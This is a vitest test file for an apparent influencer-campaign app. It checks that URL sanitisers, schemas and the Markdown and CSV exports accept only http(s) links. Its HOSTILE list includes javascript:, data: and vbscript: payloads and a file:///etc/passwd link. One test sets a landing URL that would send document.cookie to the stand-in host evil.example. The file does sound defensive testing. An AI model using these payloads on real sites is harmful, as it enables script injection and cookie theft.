import { describe, expect, it } from 'vitest';
import { CampaignSchema, newCampaign } from '../../../lib/campaign/schema';
import { loadCampaignData } from '../../../lib/storage/campaigns';
import { campaignCsv } from '../../../lib/export/csv';
import { campaignMarkdown } from '../../../lib/export/markdown';
import { markdownUrl } from '../../../lib/export/markdown-text';
import { buildCampaignExport } from '../../../lib/export/rows';
import { nodeI18n } from '../../../lib/i18n/node';
import { ProfileSnapshotSchema } from '../../../lib/snapshot';
import { safeHttpUrl } from '../../../lib/urls';
import { freshDb, snapshot, store } from '../campaign/fixtures';
import { makeSnapshot } from '../helpers/snapshots';

const HOSTILE = [
  'javascript:fetch("//evil.example")',
  ' javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  'not a url',
];

describe('links are http(s) only', () => {
  it('accepts http and https addresses and nothing else', () => {
    expect(safeHttpUrl('https://shop.example/spring?x=1')).toBe('https://shop.example/spring?x=1');
    expect(safeHttpUrl('http://shop.example')).toBe('http://shop.example/');
    for (const bad of HOSTILE) expect(safeHttpUrl(bad)).toBeNull();
  });

  it('a snapshot cannot store a bio link that is not http(s) (Instagram kept javascript:, data: and vbscript:)', () => {
    expect(ProfileSnapshotSchema.safeParse(makeSnapshot({ links: ['https://linktr.ee/lena'] })).success).toBe(true);
    for (const bad of HOSTILE) {
      const parsed = ProfileSnapshotSchema.safeParse(makeSnapshot({ links: ['https://linktr.ee/lena', bad] }));
      expect(parsed.success, bad).toBe(false);
    }
  });

  it("a campaign's landing URL is empty or http(s), in the schema", () => {
    const campaign = newCampaign({ id: 'c', name: 'Spring', now: new Date('2026-02-02T00:00:00Z'), creators: [] });
    expect(CampaignSchema.safeParse({ ...campaign, landingUrl: '' }).success).toBe(true);
    expect(CampaignSchema.safeParse({ ...campaign, landingUrl: 'https://shop.example/' }).success).toBe(true);
    for (const bad of HOSTILE) expect(CampaignSchema.safeParse({ ...campaign, landingUrl: bad }).success, bad).toBe(false);
  });

  it('the Markdown brief and the CSV never carry a link that is not http(s), even when one got past the schema', async () => {
    const db = await freshDb();
    const key = await store(db, snapshot({ platform: 'instagram', handle: 'lena' }));
    const campaign = newCampaign({
      id: 'c',
      name: 'Spring',
      now: new Date('2026-02-02T00:00:00Z'),
      creators: [{ creatorKey: key, platform: 'instagram', handle: 'lena' }],
    });
    // As an old store or a hand-edited backup could hold it.
    campaign.landingUrl = 'javascript:fetch("//evil.example/?c="+document.cookie)';
    const data = await loadCampaignData(db, campaign);
    data.latest.set(key, { ...data.latest.get(key)!, url: 'javascript:alert(1)' });
    const exported = buildCampaignExport(campaign, data);
    const md = await campaignMarkdown(exported, nodeI18n('en'));
    expect(md.toLowerCase()).not.toContain('javascript');
    const csv = await campaignCsv(exported, { i18n: nodeI18n('en'), separator: ';' });
    expect(csv.toLowerCase()).not.toContain('javascript');
    for (const bad of HOSTILE) expect(markdownUrl(bad)).toBeNull();
    expect(markdownUrl('https://shop.example/a b|c')).toBe('<https://shop.example/a%20b%7Cc>');
  });
});
